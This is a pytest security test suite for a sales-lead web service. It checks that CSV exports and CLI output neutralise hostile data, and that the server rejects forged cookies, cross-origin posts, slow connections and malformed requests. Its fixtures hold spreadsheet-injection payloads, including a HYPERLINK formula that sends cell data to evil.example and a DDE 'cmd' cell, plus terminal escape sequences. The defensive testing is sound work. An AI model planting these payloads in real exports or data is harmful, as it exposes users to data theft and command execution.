"""Outputs that cannot attack their reader, and an edge that hostile clients cannot wedge.

A worker of its own with short limits (read timeout 2 s, 3 bad credentials, a trusted proxy at
127.0.0.9). Each test speaks from its own loopback address (Linux routes 127/8 to lo), so the
per-client limits of one test never touch another.
"""

from __future__ import annotations

import asyncio
import base64
import csv
import hashlib
import io
import json
import os
import re
import socket
import subprocess
import sys
import time
import uuid
from collections.abc import AsyncIterator
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from types import SimpleNamespace
from typing import Any

import aiohttp
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from events.topics import TopicNames
from infra import db
from infra.kafka import ensure_contract_topics, produce_all
from infra.processes import free_port
from tests.conftest import RunningServices
from tests.http.conftest import wait_ready, web_env
from tests.http.records import read_topic
from tests.integration.workerproc import ROOT, WorkerProcess, eventually
from workers.render import csv_cell, printable, terminal_text
from workers.web.auth import Principal, SalesTokens
from workers.web.clients import Clients, parse_address, parse_networks, rate_key
from workers.web.ratelimit import RateLimiter
from workers.web.security import ConnectionGuard
from workers.web.server import _site_client

READ_TIMEOUT = 2.0
MAX_CONNECTIONS = 20
FAILURES = 3
PROXY = "127.0.0.9"
OTHER_ORIGIN = "https://calls.example"
URL_ATTACK = "https://vendor.example/pricing\x1b]0;pwned\x07\x1b[2J\x1b[31mred"
FORMULAS = {
    "company_name": '=HYPERLINK("https://evil.example/?x="&A1,"Open")',
    "job_title": "+cmd|' /C calc'!A0",
    "email": "-2+3+cmd@evil.example",
}


@dataclass(frozen=True)
class Guarded:
    services: RunningServices
    worker: WorkerProcess
    base: str
    port: int
    topics: TopicNames
    run: str
    rep: str
    token: str
    admin: str
    write_key: str
    lead: str  # a hot lead whose profile and visits carry CSV formulas and terminal escapes


@pytest.fixture(scope="module")
async def guarded(services: RunningServices) -> AsyncIterator[Guarded]:
    run = uuid.uuid4().hex[:8]
    topics = TopicNames(f"sec-{run}.")
    await ensure_contract_topics(services.kafka_url, topics, 1)
    port = free_port()
    rep, token, admin, write_key = f"rep-s-{run}", f"tok-s-{run}", f"adm-s-{run}", f"wk-{run}"
    worker = WorkerProcess(
        services,
        app_id=f"sec-{run}",
        prefix=topics.prefix,
        **web_env(
            port,
            LEADCYCLE_PARTITIONS="1",
            LEADCYCLE_SWEEP_INTERVAL="3600",
            LEADCYCLE_REPS=rep,
            LEADCYCLE_SALES_REP_TOKENS=f"{rep}={token}",
            LEADCYCLE_SALES_ADMIN_TOKEN=admin,
            LEADCYCLE_HTTP_WRITE_KEYS=f"site={write_key}",
            LEADCYCLE_HTTP_RATE_LIMIT="0",
            LEADCYCLE_HTTP_READ_TIMEOUT=str(READ_TIMEOUT),
            LEADCYCLE_HTTP_MAX_CONNECTIONS_PER_CLIENT=str(MAX_CONNECTIONS),
            LEADCYCLE_HTTP_TRUSTED_PROXIES=PROXY,
            LEADCYCLE_SALES_AUTH_FAILURES=str(FAILURES),
            LEADCYCLE_SALES_RATE_LIMIT="20",
            LEADCYCLE_SALES_RATE_BURST="40",
            LEADCYCLE_SALES_ORIGINS=OTHER_ORIGIN,
        ),
    ).start()
    base = f"http://127.0.0.1:{port}"
    lead = f"LS-{run}"
    try:
        await wait_ready(base, worker)
        await publish_hostile_lead(services.kafka_url, topics, lead, rep)
        conn = await db.connect(services.database_dsn)
        try:

            async def listed() -> bool:
                found = await conn.fetchval(
                    "SELECT count(*) FROM followups WHERE status = 'open' AND lead_id = $1", lead
                )
                return bool(found)

            await eventually(
                listed, seconds=60, what="the hostile lead's follow-up", workers=(worker,)
            )
        finally:
            await conn.close()
        yield Guarded(services, worker, base, port, topics, run, rep, token, admin, write_key, lead)
    finally:
        worker.stop()


async def publish_hostile_lead(kafka_url: str, topics: TopicNames, lead: str, rep: str) -> None:
    """A hot lead (strong profile, a visit, a demo request) whose profile holds spreadsheet
    formulas and whose visit's URL holds terminal escapes; the visit comes before the demo
    request, so the follow-up's recent activity shows it."""
    now = datetime.now(UTC)
    profile = {
        "event_id": f"{lead}-profile",
        "type": "profile_updated",
        "lead_id": lead,
        "occurred_at": (now - timedelta(minutes=10)).isoformat(),
        "company_size": 1500,
        "industry": "manufacturing",
        "country": "JP",
        "source": "demo_request",
        "owner": rep,
        **FORMULAS,
    }
    visit = {
        "event_id": f"{lead}-escape",
        "type": "page_view",
        "occurred_at": (now - timedelta(minutes=5)).isoformat(),
        "lead_id": lead,
        "properties": {"url": URL_ATTACK},
    }
    demo = {**visit, "event_id": f"{lead}-demo", "type": "demo_request"}
    key = lead.encode()
    await produce_all(kafka_url, [(topics.profiles, key, json.dumps(profile).encode())])
    await produce_all(
        kafka_url, [(topics.events, key, json.dumps(e).encode()) for e in (visit, demo)]
    )


def session(ip: str = "127.0.0.1", **kw: Any) -> aiohttp.ClientSession:
    """A client speaking from ``ip``; no redirects followed, no cookie jar."""
    return aiohttp.ClientSession(
        connector=aiohttp.TCPConnector(local_addr=(ip, 0)),
        cookie_jar=aiohttp.DummyCookieJar(),
        **kw,
    )


def bearer(token: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {token}"}


def assert_hardened(headers: Any, *, page: bool = False) -> None:
    csp = headers["Content-Security-Policy"]
    assert "frame-ancestors 'none'" in csp
    assert "unsafe-inline" not in csp
    assert "script-src" not in csp  # default-src 'none' covers scripts: none may run
    assert csp.startswith("default-src 'none'")
    assert headers["X-Content-Type-Options"] == "nosniff"
    assert headers["Cache-Control"] == "no-store"
    assert headers["Referrer-Policy"] in ("no-referrer", "same-origin")
    if page:
        assert "form-action 'self'" in csp


# --- outputs -------------------------------------------------------------------------------


async def test_csv_download_neutralises_formulas(guarded: Guarded) -> None:
    async with (
        session() as http,
        http.get(f"{guarded.base}/v1/call-lists?format=csv", headers=bearer(guarded.token)) as r,
    ):
        assert r.status == 200
        text = await r.text()
        disposition = r.headers["Content-Disposition"]
        assert_hardened(r.headers)
    assert re.fullmatch(
        r'attachment; filename="call-list-rep-s-\w+-\d{4}-\d\d-\d\d\.csv"', disposition
    )
    rows = [row for row in csv.DictReader(io.StringIO(text)) if row["lead_id"] == guarded.lead]
    assert len(rows) == 1
    row = rows[0]
    assert row["company"] == "'" + FORMULAS["company_name"]
    assert row["job_title"] == "'" + FORMULAS["job_title"]
    assert row["email"] == "'" + FORMULAS["email"]
    assert "\x1b" not in text
    assert "\x07" not in text
    for cells in csv.reader(io.StringIO(text)):
        assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells), cells


def cli(guarded: Guarded, *args: str) -> str:
    env = {**os.environ, "LEADCYCLE_DATABASE_URL": guarded.services.database_dsn}
    done = subprocess.run(
        [sys.executable, "-m", "workers.cli", *args],
        cwd=ROOT,
        env=env,
        capture_output=True,
        check=True,
    )
    return done.stdout.decode()


def test_cli_prints_no_escape_sequences(guarded: Guarded) -> None:
    table = cli(guarded, "calllist", "--rep", guarded.rep)
    assert guarded.lead in table or "Acme" in table or "HYPERLINK" in table
    assert "/pricing" in table
    text = cli(guarded, "lead", guarded.lead)
    assert "HYPERLINK" in text
    assert "+cmd" in text
    for out in (table, text):
        assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]", out), repr(out)
        assert "pwned" not in out  # the whole OSC sequence went, not just its ESC
    as_json = cli(guarded, "calllist", "--rep", guarded.rep, "--format", "json")
    assert "\x1b" not in as_json
    assert "\\u001b" in as_json
    [entry] = [e for e in json.loads(as_json) if e["lead_id"] == guarded.lead]
    assert any(URL_ATTACK.split("/", 3)[3] in a for a in entry["recent_activity"])
    as_csv = cli(guarded, "calllist", "--rep", guarded.rep, "--format", "csv")
    assert "'=HYPERLINK" in as_csv
    assert "\x1b" not in as_csv
    assert (
        subprocess.run(
            [sys.executable, "-m", "workers.cli", "calllist", "--date", "9999-12-31"],
            cwd=ROOT,
            env={**os.environ, "LEADCYCLE_DATABASE_URL": guarded.services.database_dsn},
            capture_output=True,
        ).returncode
        == 2
    )  # a usage error, not a traceback


def test_terminal_and_csv_helpers() -> None:
    assert terminal_text("a\x1b[2Jb\x1b]0;title\x07c\x9b31md\x7fe\u202ef\nz") == "abcdef\nz"
    assert printable("one\ntwo\r\tthree") == "one two three"
    assert printable("\x1bc\x1b(0x") == "x"
    assert [csv_cell(v) for v in ("=1", "+1", "-1", "@x", "\t=1", "\r=1", "a=1", 3.5)] == [
        "'=1",
        "'+1",
        "'-1",
        "'@x",
        "'\t=1",
        "'\r=1",
        "a=1",
        3.5,
    ]
    assert csv_cell("\x1b[0m=1") == "'=1"  # a formula hidden behind an escape is still one


# --- headers, cookie, origin ---------------------------------------------------------------


async def test_pages_and_exports_send_security_headers(guarded: Guarded) -> None:
    async with session("127.0.0.51") as http:
        async with http.get(f"{guarded.base}/call-list") as r:
            assert r.status == 401
            page = await r.text()
            assert_hardened(r.headers, page=True)
            csp = r.headers["Content-Security-Policy"]
        style = re.search(r"<style>(.*?)</style>", page, re.S)
        assert style is not None
        digest = base64.b64encode(hashlib.sha256(style.group(1).encode()).digest()).decode()
        assert f"style-src 'sha256-{digest}'" in csp  # the one inline style, by hash
        assert "<script" not in page
        for path, headers in (
            ("/v1/call-lists", bearer(guarded.token)),
            ("/v1/call-lists?format=csv", bearer(guarded.token)),
            ("/v1/call-lists", {}),
            ("/nowhere", {}),
            ("/healthz", {}),
        ):
            async with http.get(f"{guarded.base}{path}", headers=headers) as r:
                assert r.status in (200, 401, 404), path
                assert_hardened(r.headers)


def cookie_of(response: aiohttp.ClientResponse) -> tuple[str, str]:
    """(value, the whole Set-Cookie header) of the session cookie."""
    [header] = [h for h in response.headers.getall("Set-Cookie") if "leadcycle_sales=" in h]
    value = header.split(";", 1)[0].split("=", 1)[1].strip('"')
    return value, header


async def login(
    http: aiohttp.ClientSession, guarded: Guarded, token: str, **headers: str
) -> aiohttp.ClientResponse:
    return await http.post(
        f"{guarded.base}/call-list/login",
        data={"rep": "", "token": token},
        headers={"Origin": f"http://127.0.0.1:{guarded.port}", **headers},
        allow_redirects=False,
    )


async def page_with(http: aiohttp.ClientSession, guarded: Guarded, cookie: str) -> int:
    async with http.get(
        f"{guarded.base}/call-list", headers={"Cookie": f"leadcycle_sales={cookie}"}
    ) as r:
        return r.status


async def test_session_cookie_is_signed_not_the_token(guarded: Guarded) -> None:
    async with session("127.0.0.52") as http:
        r = await login(http, guarded, guarded.token)
        assert r.status == 303
        value, header = cookie_of(r)
        r.release()
        assert guarded.token not in value
        assert guarded.token not in base64.urlsafe_b64decode(value.split(".")[2] + "==").decode()
        flags = {f.strip().lower() for f in header.split(";")[1:]}
        assert {"httponly", "samesite=strict", "path=/"} <= flags
        assert "secure" not in flags  # plain http, no trusted proxy saying otherwise
        assert any(f.startswith("max-age=") for f in flags)
        assert await page_with(http, guarded, value) == 200

    # Signed by the rep's token: nothing else passes. Each refusal counts as a bad credential,
    # so they come from addresses of their own.
    tokens = SalesTokens({guarded.rep: guarded.token}, guarded.admin)
    now = int(time.time())
    kind, rep, expires, mac = value.split(".")[1:]
    forged = {
        "raw token (the old cookie)": guarded.token,
        "expired": tokens.session(Principal(guarded.rep), expires=now - 1),
        "tampered mac": f"v1.{kind}.{rep}.{expires}.{mac[:-2]}AA",
        "longer life": f"v1.{kind}.{rep}.{int(expires) + 3600}.{mac}",
        "made admin": f"v1.a..{expires}.{mac}",
        "other key": SalesTokens({guarded.rep: "guess"}, None).session(
            Principal(guarded.rep), expires=now + 600
        ),
        "garbage": "v1.r.%%%.1.x",
    }
    for i, (why, cookie) in enumerate(forged.items()):
        async with session(f"127.0.1.{i + 1}") as http:
            assert await page_with(http, guarded, cookie) == 401, why

    async with session("127.0.0.53") as http:
        r = await http.post(
            f"{guarded.base}/call-list/logout",
            headers={"Cookie": f"leadcycle_sales={value}"},
            allow_redirects=False,
        )
        assert r.status == 303
        _, header = cookie_of(r)
        r.release()
        assert "max-age=0" in header.lower() or "expires=thu, 01 jan 1970" in header.lower()


async def test_secure_flag_follows_https_and_the_setting(guarded: Guarded) -> None:
    # Through the trusted proxy, which says its client spoke https: Secure.
    async with session(PROXY) as http:
        r = await login(
            http,
            guarded,
            guarded.token,
            **{"X-Forwarded-Proto": "https"},
            Origin=f"https://127.0.0.1:{guarded.port}",
        )
        assert r.status == 303
        _, header = cookie_of(r)
        r.release()
        assert "secure" in header.lower()
    # The same claim from anyone else is not believed.
    async with session("127.0.0.54") as http:
        r = await login(http, guarded, guarded.token, **{"X-Forwarded-Proto": "https"})
        assert r.status == 303
        _, header = cookie_of(r)
        r.release()
        assert "secure" not in header.lower()


async def test_form_posts_from_other_origins_are_refused(guarded: Guarded) -> None:
    async with session("127.0.0.55") as http:
        for origin in ("https://evil.example", "null", f"http://127.0.0.1:{guarded.port + 1}"):
            r = await login(http, guarded, guarded.token, Origin=origin)
            assert r.status == 403, origin
            assert "Set-Cookie" not in r.headers
            r.release()
        r = await login(http, guarded, guarded.token, Origin=OTHER_ORIGIN)  # configured
        assert r.status == 303
        value, _ = cookie_of(r)
        r.release()
        r = await http.post(
            f"{guarded.base}/call-list/login",
            data={"token": guarded.token},
            headers={"Sec-Fetch-Site": "cross-site"},
            allow_redirects=False,
        )
        assert r.status == 403  # no Origin, but the browser says cross-site
        r.release()
        for path in ("/call-list/outcome", "/call-list/logout"):
            r = await http.post(
                f"{guarded.base}{path}",
                data={"lead_id": guarded.lead, "outcome": "lost"},
                headers={"Origin": "https://evil.example", "Cookie": f"leadcycle_sales={value}"},
                allow_redirects=False,
            )
            assert r.status == 403, path
            assert_hardened(r.headers)
            r.release()


# --- limits ----------------------------------------------------------------------------------


async def test_repeated_bad_tokens_get_429(guarded: Guarded) -> None:
    url = f"{guarded.base}/v1/call-lists"
    async with session("127.0.0.61") as http:
        for i in range(FAILURES):
            async with http.get(url, headers=bearer(f"guess-{i}")) as r:
                assert r.status == 401
        async with http.get(url, headers=bearer("guess-x")) as r:
            assert r.status == 429
            assert int(r.headers["Retry-After"]) >= 1
            assert "LEADCYCLE_SALES_AUTH_FAILURES" in (await r.json())["error"]
        async with http.get(url, headers=bearer(guarded.token)) as r:
            assert r.status == 429  # locked: even a right token learns nothing now
    async with session("127.0.0.62") as http:
        async with http.get(url, headers=bearer(guarded.token)) as r:
            assert r.status == 200  # another client is not affected
        for i in range(FAILURES):
            r = await login(http, guarded, f"guess-{i}")
            assert r.status == 401
            r.release()
        r = await login(http, guarded, guarded.token)
        assert r.status == 429  # sign-in failures count the same
        r.release()


async def test_sales_requests_are_rate_limited(guarded: Guarded) -> None:
    async with session("127.0.0.63") as http:

        async def one() -> int:
            async with http.get(f"{guarded.base}/v1/call-lists") as r:  # no token: 401, free
                return r.status

        began = time.monotonic()
        statuses = await asyncio.gather(*(one() for _ in range(120)))
        seconds = time.monotonic() - began
    assert set(statuses) <= {401, 429}
    assert 429 in statuses
    # The burst (40) plus what refilled at 20/s while the requests were in flight got through.
    assert statuses.count(401) <= 40 + 20 * seconds + 1, (statuses.count(401), seconds)


async def test_trusted_proxy_header_only_when_configured(guarded: Guarded) -> None:
    url = f"{guarded.base}/v1/track"
    ids = {}
    cases = (
        (PROXY, {"X-Forwarded-For": "203.0.113.7, 127.0.0.9"}, "203.0.113.7"),
        (PROXY, {"Forwarded": 'for="[2001:db8::5]:4711";proto=https'}, "2001:db8::5"),
        (PROXY, {"X-Forwarded-For": "not-an-address"}, PROXY),
        ("127.0.0.64", {"X-Forwarded-For": "203.0.113.8"}, "127.0.0.64"),
        ("127.0.0.64", {"Forwarded": "for=203.0.113.9"}, "127.0.0.64"),
    )
    for ip, headers, expected in cases:
        event_id = f"sec-{uuid.uuid4().hex}"
        async with (
            session(ip) as http,
            http.post(
                url,
                json={"event_id": event_id, "type": "page_view", "anonymous_id": f"v-{event_id}"},
                headers={"X-Leadcycle-Key": guarded.write_key, **headers},
            ) as r,
        ):
            assert r.status == 202, await r.text()
        ids[event_id] = expected
    records = await read_topic(
        guarded.services.kafka_url,
        guarded.topics.events,
        until=lambda rs: set(ids) <= {v.get("event_id") for _, v in rs},
    )
    seen = {v["event_id"]: v["context"]["ip"] for _, v in records if v.get("event_id") in ids}
    assert seen == ids


def test_ipv6_clients_are_grouped_by_64() -> None:
    assert rate_key("2001:db8:1:2:3:4:5:6") == rate_key("2001:db8:1:2:ffff::1")
    assert rate_key("2001:db8:1:2::1") == "2001:db8:1:2::/64"
    assert rate_key("2001:db8:1:3::1") != rate_key("2001:db8:1:2::1")
    assert rate_key("192.0.2.1") == "192.0.2.1"
    assert rate_key("::ffff:192.0.2.1") == "192.0.2.1"
    assert rate_key(None) == ""
    assert str(parse_address("[2001:db8::1]:443")) == "2001:db8::1"
    assert str(parse_address('"192.0.2.1:80"')) == "192.0.2.1"
    assert parse_address("unknown") is None
    assert parse_address("_hidden") is None
    limiter = RateLimiter(1, 2, group=lambda k: rate_key(str(k)))
    assert limiter.take("2001:db8::1", 0) == 0
    assert limiter.take("2001:db8::2", 0) == 0
    assert limiter.take("2001:db8::ffff:3", 0) > 0  # one /64, one bucket
    assert limiter.take("2001:db8:0:1::1", 0) == 0
    assert limiter.wait("2001:db8::9", 0) > 0
    # The collector's buckets are (site, client): its IPv6 clients count by /64 as well.
    assert _site_client(("site", "2001:db8::1")) == _site_client(("site", "2001:db8::abcd"))
    assert _site_client(("site", "2001:db8::1")) != _site_client(("other", "2001:db8::1"))
    assert limiter.wait("192.0.2.1", 0) == 0


def test_connection_guard_closes_slow_and_surplus_connections() -> None:
    class Conn:
        def __init__(self, ip: str, unsent: int = 0) -> None:
            self.transport = SimpleNamespace(
                get_extra_info=lambda _: (ip, 1234), get_write_buffer_size=lambda: unsent
            )
            self.closed = False

        def force_close(self) -> None:
            self.closed = True

    trusted = Clients(trusted=parse_networks("test", "10.0.0.1"))
    guard = ConnectionGuard(timeout=10, max_per_client=3, clients=trusted)
    many = [Conn("2001:db8::1"), Conn("2001:db8::2"), Conn("2001:db8::3"), Conn("2001:db8::4")]
    proxy = [Conn("10.0.0.1") for _ in range(5)]
    busy = Conn("192.0.2.1")
    sending = Conn("192.0.2.2", unsent=65536)  # an answer still going out to a slow link
    conns: list[Any] = [*many, *proxy, busy, sending]
    guard.sweep(conns, 0.0)
    assert sum(c.closed for c in many) == 1  # one /64: 4 connections, 3 allowed
    assert not any(c.closed for c in proxy)  # a trusted proxy carries many clients
    guard.started(busy)  # type: ignore[arg-type]
    guard.sweep([c for c in conns if not c.closed], 10.0)
    assert all(c.closed for c in many + proxy)  # idle for the whole timeout
    assert not busy.closed  # inside a handler: its body has a deadline of its own
    assert not sending.closed
    guard.finished(busy, 10.0)  # type: ignore[arg-type]
    guard.sweep([busy], 15.0)
    assert not busy.closed
    guard.sweep([busy], 20.0)
    assert busy.closed


async def test_slow_connections_are_closed(guarded: Guarded) -> None:
    loop = asyncio.get_running_loop()

    async def slow(ip: str, head: bytes, trickle: bytes) -> float:
        """Send ``head``, then a byte of ``trickle`` every 0.3 s; seconds until closed."""
        sock = socket.socket()
        sock.setblocking(False)
        sock.bind((ip, 0))
        await loop.sock_connect(sock, ("127.0.0.1", guarded.port))
        began = time.monotonic()
        try:
            await loop.sock_sendall(sock, head)
            for byte in trickle * 100:
                await loop.sock_sendall(sock, bytes([byte]))
                try:
                    got = await asyncio.wait_for(loop.sock_recv(sock, 4096), 0.3)
                except TimeoutError:
                    continue
                if not got:
                    break
                # An answer (408/400): then the close follows.
        except OSError:
            pass
        finally:
            sock.close()
        return time.monotonic() - began

    heads = [(b"GET /healthz HTTP/1.1\r\nHost: x\r\n", b"X-a: b\r\n")] * 40 + [
        (  # a body that never finishes
            b"POST /v1/outcomes HTTP/1.1\r\nHost: x\r\nContent-Length: 100000\r\n"
            + b"Authorization: Bearer "
            + guarded.token.encode()
            + b"\r\n\r\n{",
            b" ",
        )
    ] * 10
    slow_ones = [
        asyncio.create_task(slow(f"127.0.2.{1 + i % 2}", head, trickle))
        for i, (head, trickle) in enumerate(heads)
    ]
    await asyncio.sleep(0.5)
    async with session("127.0.0.65") as http:  # a normal client meanwhile
        for _ in range(3):
            async with http.get(f"{guarded.base}/healthz") as r:
                assert r.status == 200
    held = await asyncio.wait_for(asyncio.gather(*slow_ones), 60)
    # Closed within the read timeout plus one guard sweep (and scheduling slack on a shared
    # machine), not after the 30 s a trickle of 100 bytes would take.
    assert max(held) < READ_TIMEOUT + 6, sorted(held)


# --- malformed input -------------------------------------------------------------------------


async def raw_status(guarded: Guarded, request: bytes, ip: str) -> int:
    reader, writer = await asyncio.open_connection("127.0.0.1", guarded.port, local_addr=(ip, 0))
    try:
        writer.write(request)
        await writer.drain()
        line = await asyncio.wait_for(reader.readline(), 10)
    finally:
        writer.close()
    return int(line.split()[1])


async def test_malformed_headers_and_parameters_get_4xx(guarded: Guarded) -> None:
    tok = guarded.token.encode()
    raw = [
        b"GET /v1/call-lists HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer \xff\xfe\xfd\r\n\r\n",
        b"GET /v1/call-lists HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer t\xc3\x28\r\n\r\n",
        b"GET /call-list HTTP/1.1\r\nHost: x\r\nCookie: leadcycle_sales=\xff\xfe\r\n\r\n",
        b'GET /call-list HTTP/1.1\r\nHost: x\r\nCookie: leadcycle_sales="v1.r\r\n\r\n',
        b"GET /call-list HTTP/1.1\r\nHost: x\r\nCookie: ;;==;leadcycle_sales\r\n\r\n",
        b"GET /v1/call-lists?rep=%ff%fe HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer "
        + tok
        + b"\r\n\r\n",
        b"POST /call-list/login HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-www-form-"
        b"urlencoded\r\nContent-Length: 12\r\n\r\ntoken=%ff%fe",
        b"POST /call-list/login HTTP/1.1\r\nHost: x\r\nContent-Type: multipart/form-data; "
        b"boundary=zz\r\nContent-Length: 10\r\n\r\n--zz\r\nbad!",
        b"POST /call-list/login HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-www-form-"
        b"urlencoded\r\nContent-Length: 22\r\n\r\nrep=%ff%fe&token=wrong",
        b"POST /call-list/login HTTP/1.1\r\nHost: x\r\nContent-Type: multipart/form-data\r\n"
        b"Content-Length: 2\r\n\r\nxx",
        b"POST /call-list/login HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-www-form-"
        b"urlencoded; charset=nope\r\nContent-Length: 5\r\n\r\na=b\xff\xfe",
        b"POST /call-list/login HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-www-form-"
        b"urlencoded; charset=utf-16\r\nContent-Length: 5\r\n\r\na=b\xff\xfe",
    ]
    for i, request in enumerate(raw):
        status = await raw_status(guarded, request, f"127.0.3.{i + 1}")
        assert 400 <= status < 500, (status, request)
    queries = [
        "rep=%00",
        "rep=" + "r" * 65,
        "rep=a%0Ab",
        "date=9999-12-31",
        "date=0001-01-01",
        "date=%00",
        "date=\uff12\uff10\uff12\uff16-01-01",  # full-width digits
        "limit=²",
        "limit=99999999999999999999",
        "limit=-1",
        "format=%00",
    ]
    async with session("127.0.0.66") as http:
        for query in queries:
            async with http.get(
                f"{guarded.base}/v1/call-lists?{query}", headers=bearer(guarded.admin)
            ) as r:
                assert r.status in (200, 400), (query, r.status)
                if r.status == 200:
                    assert query == "date=0001-01-01"
            async with http.get(
                f"{guarded.base}/call-list?{query}", headers=bearer(guarded.admin)
            ) as r:
                assert r.status < 500, (query, r.status)


_FUZZ_CLIENTS = iter(range(1, 60_000))
query_text = st.one_of(
    st.text(max_size=24),
    st.binary(max_size=12).map(lambda b: "".join(f"%{x:02x}" for x in b)),
    st.sampled_from(["", "%", "%zz", "%00", "9999-12-31", "0000-00-00", "1e9", "²", "-0"]),
)
header_bytes = st.binary(max_size=40).filter(lambda b: b"\r" not in b and b"\n" not in b)


@settings(max_examples=120, deadline=None, suppress_health_check=list(HealthCheck))
@given(
    path=st.sampled_from(["/v1/call-lists", "/call-list"]),
    params=st.dictionaries(
        st.sampled_from(["rep", "date", "limit", "format", "recorded", "x"]),
        query_text,
        max_size=4,
    ),
    auth=st.one_of(st.none(), header_bytes, st.just(b"admin")),
    cookie=st.one_of(st.none(), header_bytes),
)
async def test_fuzzed_sales_requests_never_get_5xx(
    guarded: Guarded,
    path: str,
    params: dict[str, str],
    auth: bytes | None,
    cookie: bytes | None,
) -> None:
    n = next(_FUZZ_CLIENTS)
    query = "&".join(f"{k}={v.replace(' ', '%20').replace('#', '%23')}" for k, v in params.items())
    lines = [f"GET {path}?{query} HTTP/1.1".encode(errors="surrogateescape"), b"Host: x"]
    if auth is not None:
        token = guarded.admin.encode() if auth == b"admin" else auth
        lines.append(b"Authorization: Bearer " + token)
    if cookie is not None:
        lines.append(b"Cookie: leadcycle_sales=" + cookie)
    request = b"\r\n".join(lines) + b"\r\nConnection: close\r\n\r\n"
    status = await raw_status(guarded, request, f"127.4.{n // 250}.{n % 250 + 1}")
    assert status < 500, request
